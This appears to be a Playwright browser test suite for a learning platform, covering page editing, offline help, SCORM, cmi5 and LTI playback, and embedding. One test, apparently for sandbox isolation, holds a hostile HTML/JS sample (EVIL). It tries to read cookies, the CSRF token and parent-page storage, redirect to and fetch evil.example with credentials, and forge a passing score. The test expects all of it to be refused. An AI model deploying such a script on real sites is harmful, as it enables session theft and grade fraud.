"""Content in a real browser. Packages of others play from the site's page through the isolated host to the end, with score and bookmark.

A package that means harm finds nothing of the site.
"""

import json
import time

import pytest
from playwright.sync_api import expect

from content.models import LaunchStatement, Package, Page, Tick, UnitDocument, UnitState
from content.services import (
    document_create,
    link_create,
    package_create,
    page_embeddable,
    page_save,
    unit_open,
    unit_report,
    video_create,
)
from courses.services import PlannedActivity, PlannedBlock, course_publish, enrolment_create, run_open
from ecosystem.scope import open_scope
from ecosystem.services.elements import element_create
from ecosystem.services.settings import setting_save
from ecosystem.setting_tree import Own
from lti.practice import talk
from lti.practice.tool import registration
from lti.services import link_make, tool_save
from records.models import Statement
from tests.content.making import CAPTIONS, PDF, mp4, upload
from tests.content.test_writing import picture
from tests.content.zips import manifest, sample, zipped
from tests.live.browsing import Visitor, chromium
from tests.live.writing import pages_are_written_as_they_look

pytestmark = [pytest.mark.live, pytest.mark.xdist_group("packages"), pytest.mark.usefixtures("own_database")]


@pytest.fixture
def port(live_server, monkeypatch):
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")  # the test asks the database beside the browser's loop
    return int(live_server.url.rsplit(":", 1)[-1])


@pytest.fixture
def visitor(port, env, member, browser_of):
    person = member(name="Ada Lovelace")
    with chromium() as browser:
        found = Visitor(browser, base=f"http://alpha.localhost:{port}", name="package")
        session = browser_of(person).cookies["session"].value
        found.context.add_cookies([{"name": "session", "value": session, "url": found.base}])
        found.person = person
        yield found
        found.close()


def brought_in(env, title: str, data: bytes) -> None:
    with open_scope(environment_id=env.pk):
        package_create(title=title, upload=upload("x.zip", data), creators=["Ada"])


def wait(check, seconds: float = 20) -> None:
    end = time.monotonic() + seconds
    while not check():
        assert time.monotonic() < end, "it did not happen"
        time.sleep(0.2)


def state(env, slug: str, position: int = 0) -> UnitState | None:
    with open_scope(environment_id=env.pk):
        rows = UnitState.objects.filter(element__slug=slug).order_by("pk")
        return rows[position : position + 1].first()


def verbs(env, slug: str) -> set[str]:
    with open_scope(environment_id=env.pk):
        return set(Statement.objects.filter(element__slug=slug).values_list("verb", flat=True))


def inside(visitor, name: str):
    """The frame of the package whose address holds ``name``, once it is there."""
    found: list = []

    def look() -> bool:
        found[:] = [frame for frame in visitor.page.frames if name in frame.url]
        visitor.page.wait_for_timeout(50)
        return bool(found)

    wait(look)
    found[0].wait_for_load_state("load")
    return found[0]


def signed_in(browser, base: str, person, browser_of, name: str) -> Visitor:
    found = Visitor(browser, base=base, name=name)
    session = browser_of(person).cookies["session"].value
    found.context.add_cookies([{"name": "session", "value": session, "url": base}])
    return found


def pages_are_written(env, visitor, author, browser_of) -> None:
    """With the buttons, with the page as it will be read beside it, with a picture, and with somebody else in between."""
    ada = signed_in(visitor.context.browser, visitor.base, author, browser_of, "content")
    ada.go("/content/").look("1-empty", shoot_desktop=True).press("Make something").look("2-kinds")
    ada.press("Checklist")
    ada.page.fill("[name=title]", "Before the night shift")
    ada.press("Write with marks")
    ada.page.fill("[name=markdown]", "Take along:\n\n- [ ] Keys\n- [ ] Lamp\n\nDrive carefully.")
    ada.page.select_option("[name=visibility]", "members")
    ada.look("3-new", shoot_desktop=True).press("Save")
    ada.page.wait_for_url("**/edit/")
    field = ada.page.locator("[name=markdown]")
    field.focus()
    field.press("Control+End")
    field.press("Control+b")
    ada.page.keyboard.type("Slowly")
    ada.page.wait_for_selector(".preview strong:has-text('Slowly')")
    ada.page.click("summary:has-text('Add a picture')")
    ada.page.set_input_files("[name=image]", {"name": "x.png", "mimeType": "image/png", "buffer": picture()})
    ada.page.fill("[name=image_says]", "A red lamp")
    ada.press("Put the picture into the text")
    ada.page.wait_for_selector(".preview img[alt='A red lamp']")
    ada.look("4-picture", shoot_desktop=True)
    with open_scope(environment_id=env.pk):
        page = Page.objects.select_related("element").get()
        page_save(page=page, base=1, markdown=page.markdown + "\n\nHers.", by=author.person)
    ada.press("Save").page.wait_for_selector("#conflict")
    ada.look("5-conflict", shoot_desktop=True).press("Save")
    ada.page.wait_for_selector("text=Version 3")
    ada.press("Versions").look("6-versions", shoot_desktop=True)
    ada.go("/content/before-the-night-shift/versions/3/").look("7-version", shoot_desktop=True)
    ada.go("/content/new/video/").look("8-video", shoot_desktop=True)
    with open_scope(environment_id=env.pk):
        link_create(title="Elsewhere", url="https://example.org/", creators=["Ada"])
    ada.go("/content/links/").look("9-links")
    ada.go("/content/").look("10-list", shoot_desktop=True)
    # A refused saving is answered with 409, which the browser notes.
    assert [one for one in ada.wrong if "409" not in one] == []
    ada.close()


def help_is_found_ticked_and_kept(env, visitor) -> None:
    visitor.go("/").look("h1-home", shoot_desktop=True)
    visitor.page.fill("#help-q", "night shift")
    visitor.page.press("#help-q", "Enter")
    visitor.page.wait_for_url("**/support/?q=*")
    visitor.look("h2-found", shoot_desktop=True).press("Before the night shift")
    visitor.page.wait_for_selector("[data-pin]:visible")
    visitor.look("h3-aid", shoot_desktop=True)
    visitor.page.check("text=Keys")
    wait(lambda: ticks(env) == 1)
    visitor.press("Keep on this device")
    visitor.page.wait_for_selector("[data-pin][aria-pressed=true]")
    visitor.page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    visitor.context.set_offline(True)
    visitor.page.reload()
    assert "Drive carefully" in visitor.text()
    visitor.page.goto(visitor.base + "/support/")
    assert "Before the night shift" in visitor.text()
    visitor.context.set_offline(False)
    visitor.wrong.clear()  # the browser notes each file that it could not ask for
    visitor.go("/support/before-the-night-shift/").press("Yes").look("h4-helped")
    visitor.go("/support/before-the-night-shift/code/").look("h5-code", shoot_desktop=True)
    visitor.go("/support/?q=unicorn").look("h6-nothing")
    visitor.go("/support/")
    visitor.page.wait_for_selector("[data-pinned]:visible")
    kept = "caches.open('support-v1').then(cache => cache.keys()).then(keys => keys.map(key => key.url))"
    assert not [url for url in visitor.page.evaluate(kept) if "?" in url]
    # Somebody else on the same device, then signing out.
    visitor.page.evaluate(
        "caches.open('support-v1').then(cache => cache.put('/support/x/', new Response('x', {headers: {'X-Title': 'x', 'X-Keeper': '0'}})))"
    )
    visitor.go("/support/before-the-night-shift/")
    wait(lambda: visitor.page.evaluate(kept) == [])
    visitor.press("Keep on this device")
    visitor.page.wait_for_selector("[data-pin][aria-pressed=true]")
    visitor.page.evaluate(
        "addEventListener('submit', event => event.preventDefault()); document.querySelector('form[action=\"/accounts/logout/\"]').requestSubmit()"
    )
    wait(lambda: visitor.page.evaluate(kept) == [])


def ticks(env) -> int:
    with open_scope(environment_id=env.pk):
        return Tick.objects.count()


def scorm_2004_to_the_end_with_bookmark_and_score(env, visitor):
    brought_in(env, "Golf", sample("golf-scorm2004.zip"))
    asked: list[str] = []
    visitor.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
    visitor.go("/packages/golf/").look("1-begin", shoot_desktop=True)
    visitor.press("Begin")
    course = inside(visitor, "launchpage.html")
    inside(visitor, "Playing/Playing.html")
    visitor.look("2-playing", shoot_desktop=True)
    for _step in range(3):
        course.click("#butNext")
    inside(visitor, "Playing/OtherScoring.html")
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/golf/")
    assert state(env, "golf").cmi["location"] == "3"
    visitor.look("3-begun").press("Go on")
    course = inside(visitor, "launchpage.html")
    inside(visitor, "Playing/OtherScoring.html")
    assert "resume" in asked[0], "the bookmark was not given back"
    for _step in range(11):
        course.click("#butNext")
    test = inside(visitor, "assessmenttemplate.html")
    # Right answers are told by the class of their boxes; of the three kinds, each is answered as a learner would.
    test.evaluate(
        """() => { for (const box of document.querySelectorAll('.correctAnswer')) {
            const field = box.querySelector('input');
            if (field.type === 'radio') field.click(); else field.value = box.textContent.match(/\\((.*)\\)/)[1];
        } }"""
    )
    test.click("input[type=button]")
    wait(lambda: (row := state(env, "golf")) is not None and row.status == "passed")
    assert state(env, "golf").score == 1
    course.click("#butExit")
    visitor.page.wait_for_url("**/packages/golf/")
    visitor.look("4-passed", shoot_desktop=True)
    assert {"launched", "passed", "completed"} <= verbs(env, "golf")


def scorm_12_with_many_parts(env, visitor):
    """The first ones and the last are played; those between, which are alike, are reported as a player reports them."""
    brought_in(env, "Parts", sample("golf-scorm12.zip"))
    for position in range(1, 4):
        a_part_is_played(env, visitor, position)
    with open_scope(environment_id=env.pk, person_id=visitor.person.person_id):
        package = Package.objects.get(element__slug="parts")
        for unit in package.units.filter(position__range=(4, 17)).order_by("position"):
            unit_open(package=package, unit=unit)
            unit_report(package=package, unit=unit, cmi={"core": {"lesson_status": "completed"}}, sequence=1)
    assert "completed" not in verbs(env, "parts")
    a_part_is_played(env, visitor, 18)
    visitor.look("5-parts", shoot_desktop=True)
    assert "18 of 18" in visitor.text()
    assert "completed" in verbs(env, "parts")


def a_part_is_played(env, visitor, position: int) -> None:
    visitor.go(f"/packages/parts/{position}/")
    inside(visitor, "/files/")
    visitor.page.wait_for_timeout(150)
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/parts/")
    wait(lambda: (row := state(env, "parts", position - 1)) is not None and row.status == "completed")


def cmi5_to_the_end_with_bookmark_and_score(env, visitor):
    brought_in(env, "Geology", sample("geology-cmi5.zip"))
    visitor.page.on("dialog", lambda dialog: dialog.accept())
    visitor.go("/packages/geology/1/")
    course = inside(visitor, "/files/index.html")
    course.wait_for_function("course.currentPageIdx === 0 && document.querySelector('#page1 h1, #page1')")
    wait(lambda: "initialized" in cmi5_verbs(env))
    for step in range(3):  # one after the other: the course does not wait for its last bookmark to arrive
        if step:
            course.evaluate("course.nextPage()")
        page = course.evaluate("course.pageList[course.currentPageIdx]")
        wait(lambda page=page: kept(env) == page)
    visitor.look("6-cmi5")
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/geology/")
    visitor.go("/packages/geology/1/")
    course = inside(visitor, "/files/index.html")
    wait(lambda: cmi5_verbs(env).count("initialized") == 2)
    course.click("#bookmark-overlay .resume-button")
    course.wait_for_function("course.currentPageIdx === 2")  # the bookmark was given back
    for _step in range(5):
        course.evaluate("course.nextPage()")
    course.evaluate("course.autopass()")
    course.evaluate("course.submitAnswers()")
    wait(lambda: {"passed", "completed"} <= verbs(env, "geology"))
    assert state(env, "geology").score == 1
    course.evaluate("course.exit()")
    visitor.page.wait_for_url("**/packages/geology/")
    assert "100%" in visitor.text()
    assert "terminated" in cmi5_verbs(env)


def cmi5_verbs(env) -> list[str]:
    with open_scope(environment_id=env.pk):
        return [verb.rsplit("/", 1)[-1] for verb in LaunchStatement.objects.values_list("verb", flat=True)]


def kept(env) -> str | None:
    """The page of the bookmark."""
    found = bookmark(env)
    return json.loads(found.body)["bookmark"] if found else None


def bookmark(env) -> UnitDocument | None:
    with open_scope(environment_id=env.pk):
        return UnitDocument.objects.exclude(key="LMS.LaunchData").first()


EVIL = b"""<!doctype html><title>evil</title><script>
const found = {};
const attempt = (name, act) => { try { found[name] = String(act()); } catch (error) { found[name] = 'refused: ' + error.name; } };
attempt('cookies', () => document.cookie);
attempt('document of the site', () => top.document.title);
attempt('store of the site', () => top.localStorage.length);
attempt('token', () => top.document.querySelector('[name=csrfmiddlewaretoken]').value);
attempt('address', () => top.location.href);
attempt('leave', () => { top.location = 'https://evil.example/'; return 'went'; });
(async () => {
  for (const [name, path] of [['site', document.body.dataset.site + '/me/profile/'], ['elsewhere', 'https://evil.example/']]) {
    try { found[name] = String((await fetch(path, {credentials: 'include'})).status); } catch (error) { found[name] = 'refused: ' + error.name; }
  }
  window.found = found;
})();
for (const origin of ['*']) top.postMessage({kind: 'state', cmi: {core: {lesson_status: 'passed'}}}, origin);
</script>"""


def a_package_that_means_harm_finds_nothing(env, visitor):
    page = EVIL.replace(b"<script>", b"<body data-site='%s'><script>" % visitor.base.encode(), 1)
    brought_in(env, "Evil", zipped({"imsmanifest.xml": manifest("index.html"), "index.html": page}))
    visitor.go("/packages/evil/1/")
    course = inside(visitor, "/files/index.html")
    course.wait_for_function("window.found")
    found = course.evaluate("window.found")
    assert found.pop("cookies") == ""
    assert {name: words for name, words in found.items() if not words.startswith("refused")} == {}
    assert visitor.page.url.endswith("/packages/evil/1/")
    visitor.page.wait_for_timeout(500)
    # Only the frame of the page itself is heard, not a frame inside it.
    assert state(env, "evil").status == "begun"


def a_video_goes_on_where_one_was_and_a_pdf_has_its_frame(env, visitor):
    with open_scope(environment_id=env.pk):
        video_create(title="Film", upload=upload("a.mp4", mp4(100)), captions=CAPTIONS, creators=["Ada"])
        document_create(title="Plan", upload=upload("a.pdf", PDF), creators=["Ada"])
    visitor.go("/videos/film/").look("7-video", shoot_desktop=True)
    visitor.go("/files/plan/").look("8-file", shoot_desktop=True)


def a_job_aid_stands_in_sites_that_are_allowed_and_in_no_others(env, visitor, admin) -> None:
    with open_scope(environment_id=env.pk):
        page_embeddable(page=Page.objects.get(element__slug="before-the-night-shift"), embeddable=True, by=admin.person)
        setting_save(key="embed_hosts", own=Own("https://intranet.example.org"), by=admin)
    where = f"{visitor.base}/support/before-the-night-shift/embed/"
    body = (
        f'<!doctype html><title>Intranet</title><iframe src="{where}" title="Help" width="390" height="600"></iframe>'
    )
    shown = {}
    for site in ("https://intranet.example.org", "https://elsewhere.example.org"):
        page = visitor.context.new_page()
        page.route(f"{site}/", lambda route: route.fulfill(body=body, content_type="text/html"))
        page.goto(f"{site}/")
        (frame,) = page.main_frame.child_frames
        frame.wait_for_load_state("load")
        shown[site] = frame
    inside, outside = shown.values()
    inside.wait_for_selector("text=Drive carefully")
    assert inside.evaluate("document.styleSheets.length") == 4
    assert inside.evaluate("getComputedStyle(document.querySelector('.ticks.card')).borderTopStyle") == "solid"
    inside.check("text=Keys")
    assert "Drive carefully" not in outside.content()
    for frame in shown.values():
        frame.page.close()


def a_tool_in_its_frame_is_launched_and_its_score_completes_the_course(
    env, visitor, author, admin, settings, tmp_path, port
):
    """Grove's own tool of development: launched by LTI 1.3, on another origin, over the network."""
    settings.DEBUG, settings.GROVE_PORT, settings.MAIL_DIR = True, port, str(tmp_path / "mail")
    with open_scope(environment_id=env.pk, person_id=author.person_id):
        tool = tool_save(by=admin, **registration(visitor.base))
        link = link_make(title="Room 4 is awake", slug="room-4", by=author, tool=tool, opens_in="frame", pass_mark=70)
        course = element_create(kind="course", title="Nights", slug="nights", creators=["Ada"])
        course_publish(element=course, blocks=[PlannedBlock("One", [PlannedActivity(target=link.element)])])
        enrolment_create(run=run_open(element=course), person=visitor.person.person)
    visitor.go("/tools/room-4/?next=/courses/nights/").press("Open it")
    talking = visitor.page.frame_locator("iframe[name=tool]")
    for choose in (min, max):
        for turn in talk.TURNS:
            talking.get_by_label(choose(turn.answers, key=lambda answer: answer.points).words).check()
            talking.get_by_role("button", name="Say it").click()
        expect(talking.get_by_text("Your score has been sent")).to_be_visible()
        visitor.look(f"11-tool-{choose.__name__}", shoot_desktop=True)
        if choose is min:
            assert verbs(env, "room-4") == {"launched", "failed"}
            talking.get_by_role("button", name="Have the conversation once more").click()
    assert verbs(env, "room-4") == {"launched", "failed", "passed", "completed"}
    visitor.go("/tools/room-4/?next=/courses/nights/")
    assert "The tool reports 100%." in visitor.text()
    assert "completed" in verbs(env, "nights")


def test_all_of_content_in_a_browser(env, visitor, member, browser_of, settings, tmp_path, port):
    """One browser and one database for all of it: both take longer to make than what is looked at."""
    author, admin = member("author", name="Grace Hopper"), member("admin")
    pages_are_written(env, visitor, author, browser_of)
    pages_are_written_as_they_look(env, signed_in(visitor.context.browser, visitor.base, author, browser_of, "looks"))
    help_is_found_ticked_and_kept(env, visitor)
    assert visitor.wrong == []
    scorm_12_with_many_parts(env, visitor)
    scorm_2004_to_the_end_with_bookmark_and_score(env, visitor)
    cmi5_to_the_end_with_bookmark_and_score(env, visitor)
    a_video_goes_on_where_one_was_and_a_pdf_has_its_frame(env, visitor)
    # The course of cmi5 still keeps its bookmark when its launch is over, and hears that it is.
    assert [one for one in visitor.wrong if "401" not in one] == []
    a_package_that_means_harm_finds_nothing(env, visitor)
    visitor.wrong.clear()
    a_tool_in_its_frame_is_launched_and_its_score_completes_the_course(
        env, visitor, author, admin, settings, tmp_path, port
    )
    assert visitor.wrong == []
    a_job_aid_stands_in_sites_that_are_allowed_and_in_no_others(env, visitor, admin)
